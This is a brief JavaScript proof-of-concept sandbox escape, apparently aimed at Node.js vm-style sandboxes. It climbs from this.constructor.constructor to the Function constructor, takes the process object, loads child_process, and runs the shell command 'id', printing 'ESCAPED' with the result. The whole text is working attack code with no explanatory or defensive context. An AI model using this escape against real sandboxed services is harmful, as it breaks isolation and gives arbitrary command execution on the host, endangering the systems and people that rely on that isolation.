const F = this?.constructor?.constructor ?? (() => {}).constructor;
const p = F('return process')();
const s = p.mainModule?.require?.('child_process')?.execSync?.('id');
if (s) console.log('ESCAPED', s.toString());
